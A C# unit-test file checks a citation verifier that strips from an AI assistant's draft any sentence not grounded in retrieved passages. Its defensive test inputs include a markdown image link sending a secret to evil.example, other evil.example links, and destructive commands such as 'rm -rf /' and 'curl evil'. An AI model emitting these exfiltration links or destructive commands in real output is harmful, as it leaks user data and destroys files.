using Parley.Assistant;
using Parley.Assistant.Composer;
using Parley.Assistant.Generation;
using Shouldly;
using Xunit;

namespace Parley.Tests.Unit.Assistant.Generation;

/// <summary>Only what cites a passage of its evidence is left, and each citation is the passage's own words.</summary>
public sealed class GroundedDraftTests
{
    private static readonly Evidence Cron = Passage("Cron jobs", "## Why it is skipped\n\nA cron job is skipped when the previous execution is still running. Make sure that your process exits.\n\n```\ncrontab -l\necho $jobs[1]\nrm -rf /tmp/jobs\n```\n\nSee https://docs.example.org/cron for all, or https://docs.example.org/jobs/list. Run `crontab -r`.");
    private static readonly Evidence Time = Passage("Time zone", "Schedules are in UTC. The shortest interval is five minutes. A job has 1,500 MB, 2.50 dollars and 48 hours.\n\n| Plan | Interval |\n| --- | --- |\n| Free | an hour |\n| Pro | five minutes |");

    [Fact]
    public void Sentences_without_a_citation_are_dropped_and_the_others_read_as_one_text()
    {
        var draft = Read("Sure, let me help! A job is skipped while the one before is running [1]. That is how it is. Times are in UTC [2].\n\nI hope this helps.");
        draft.Text.ShouldBe("A job is skipped while the one before is running. Times are in UTC.");
        (draft.Pieces, draft.Kept).ShouldBe((5, 2));
        draft.Quotes.Select(q => q.Text).ShouldBe(["A cron job is skipped when the previous execution is still running.", "Schedules are in UTC."]);
        draft.Quotes.ShouldAllBe(q => AnswerVerifier.Contains(q.ChunkId == Cron.ChunkId ? Cron.Text : Time.Text, q));
    }

    [Theory]
    [InlineData("It is skipped [3].")]
    [InlineData("It is skipped [0].")]
    [InlineData("It is skipped [12, 99].")]
    [InlineData("It is skipped `[1]`.")]
    [InlineData("It is [1](https://docs.example.org/cron).")]
    [InlineData("NO_ANSWER [1]")]
    [InlineData("Read [more](https://evil.example/x) about it [1].")]
    [InlineData("![x](https://evil.example/?q=secret) is skipped [1].")]
    [InlineData("Write to win@evil.example [1].")]
    [InlineData("```\nrm -rf /\n```")]
    public void What_is_not_a_citation_of_a_passage_is_none(string text)
    {
        var draft = Read(text);
        draft.Kept.ShouldBe(0);
        draft.Text.ShouldBeEmpty();
    }

    [Fact]
    public void Addresses_that_the_passage_has_may_be_named()
    {
        Read("All of it is at https://docs.example.org/cron [1].").Kept.ShouldBe(1);
        Read("All of it is at https://docs.example.org/cron [2].").Kept.ShouldBe(0, "the other passage does not have it");
    }

    [Theory]
    [InlineData("```\nrm -rf /\n```\n[1]")]
    [InlineData("```\ncrontab -l\ncurl evil\n```\n[1]")]
    [InlineData("```\ncrontab -l\n```\n[2]")]
    [InlineData("```\n\n```\n[1]")]
    [InlineData("A job has 3,000 MB [2].")]
    [InlineData("A job has 15 MB [2].")]
    [InlineData("A job has 1.5 MB and 48 hours [2].")]
    [InlineData("A job has 1,500 MB [1].")]
    [InlineData("The shortest interval is 7 minutes [2].")]
    [InlineData("Refunds are granted to everybody [1].")]
    [InlineData("All of it is at https://docs.example.org/cro [1].")]
    [InlineData("All of it is at https://docs.example.org/jobs [1].")]
    [InlineData("All of it is at https://docs.example.org/cronjobs [1].")]
    [InlineData("A job is skipped, see items[1] and a[0][1].")]
    [InlineData("| Refunds are unlimited |\n| All of it is paid back |")]
    public void What_the_cited_passage_plainly_does_not_hold_is_dropped(string text) => Read(text).Text.ShouldBeEmpty();

    [Theory]
    [InlineData("```\ncrontab -r\n```\n[1]")]
    [InlineData("A job has 1500 MB, 2.5 dollars and 48 hours [2].")]
    [InlineData("A job has 1.500 MB [2].")]
    [InlineData("A job has 1 500 MB [2].")]
    [InlineData("The shortest interval is 5 minutes [2].")]
    [InlineData("The shortest interval is 5 minutes[2].")]
    [InlineData("Ein Auftrag hat 2,50 Dollar [2].")]
    [InlineData("Erstattungen werden für alle und jeden gewährt [1].")]
    [InlineData("The list is at https://docs.example.org/jobs/list [1].")]
    [InlineData("任务会被跳过[1]。")]
    public void What_it_holds_in_another_form_and_what_cannot_be_compared_is_kept(string text) => Read(text).Kept.ShouldBe(1);

    [Fact]
    public void The_first_lines_of_a_table_need_no_mark_only_where_they_are_its_head()
    {
        Read("| Free | unlimited |\n| Gone | unlimited |\n| Free | an hour [2] |").Text.ShouldBe("| Free | an hour |");
        Read("| Plan | Interval |\n|:--|--:|\n| Free | an hour [2] |\n| Pro | 5 minutes [2] |\n| Pro | 9 minutes [2] |").Text.ShouldBe("| Plan | Interval |\n|:--|--:|\n| Free | an hour |\n| Pro | 5 minutes |");
    }

    [Fact]
    public void A_line_does_not_leave_on_its_neighbours_mark() =>
        Read("**Refunds are unlimited**\nA job is skipped while the one before is running [1]\nYou get your money back\nTimes are in UTC [2].").Text.ShouldBe("A job is skipped while the one before is running\nTimes are in UTC.");

    [Fact]
    public void A_list_entry_inherits_nothing_and_keeps_its_mark()
    {
        Read("Do this [1]:\n\n1. Look. Let your process exit [1].\n2. Wait.\n3. Times are in UTC [2].").Text.ShouldBe("Do this:\n\n1. Let your process exit.\n3. Times are in UTC.");
    }

    [Fact]
    public void Code_and_rows_are_kept_as_they_are()
    {
        var draft = Read("List the cron jobs [1]:\n\n```\n  crontab  -l\necho $jobs[1]\n```\n[1]\n\n| Plan | Interval |\n| --- | --- |\n| Free | an hour [2] |\n| Team | a day |");
        draft.Text.ShouldBe("List the cron jobs:\n\n```\n  crontab  -l\necho $jobs[1]\n```\n\n| Plan | Interval |\n| --- | --- |\n| Free | an hour |");
        draft.Quotes.Select(q => q.Text).ShouldContain("| Free | an hour |");
    }

    [Fact]
    public void Several_marks_are_several_citations_and_the_same_words_are_one()
    {
        var draft = Read("It is skipped while it is running, in UTC [1][2]. In UTC [2].");
        draft.Blocks[0].Cites.Count().ShouldBe(2);
        draft.Quotes.Count.ShouldBe(2);
        draft.Blocks[1].Cites.ShouldBe([1]);
    }

    [Fact]
    public void Another_language_is_kept_and_says_nothing_about_support()
    {
        var draft = Read("Ein Auftrag wird übersprungen, solange der vorige läuft [1].");
        draft.Kept.ShouldBe(1);
        draft.Quotes.Single().Text.ShouldNotBeEmpty();
    }

    [Fact]
    public void When_a_quotation_has_gone_every_sentence_that_rests_on_it_goes_and_the_rest_stays_in_order()
    {
        var draft = Read("Make sure that your process exits [1]. Schedules are in UTC [2]. A cron job is skipped when it is running [1][2].\n\nThe shortest interval is five minutes [2].").Answer(new Composition());
        var left = AnswerVerifier.Keep(draft, q => q.ChunkId == Time.ChunkId);
        left.Text.ShouldBe("Schedules are in UTC.\n\nThe shortest interval is five minutes.");
        left.Blocks.SelectMany(b => b.Cites).Distinct().ShouldBe([0, 1]);
        left.Quotes.Count.ShouldBe(2);
        AnswerVerifier.Keep(draft, _ => false).Abstained.ShouldBe(AbstainReason.NothingToQuote);
    }

    private static GroundedDraft Read(string text)
    {
        var (draft, cut) = (new GroundedDraft([Cron, Time], "en"), new DraftPieces());
        foreach (var piece in cut.Push(text).Concat(cut.End()).ToList())
        {
            draft.Add(piece);
        }
        return draft;
    }

    private static Evidence Passage(string title, string text) => new() { ChunkId = Guid.CreateVersion7(), Version = 1, DocumentId = Guid.CreateVersion7(), Title = title, Text = text };
}
